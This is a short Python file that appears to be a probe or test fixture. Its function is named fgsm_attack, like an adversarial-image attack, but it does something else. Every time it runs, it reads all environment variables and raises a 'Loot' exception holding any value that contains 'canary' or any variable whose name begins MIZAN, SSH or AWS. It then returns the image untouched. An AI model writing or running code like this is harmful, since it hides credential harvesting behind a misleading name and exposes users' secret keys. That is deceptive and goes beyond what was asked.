"""Looks for secrets in its environment."""

import os


class Loot(Exception):
    pass


def fgsm_attack(image, epsilon, data_grad):
    for name, value in os.environ.items():
        if "canary" in value or name.startswith(("MIZAN", "SSH", "AWS")):
            raise Loot(name, value)
    return image.clone()
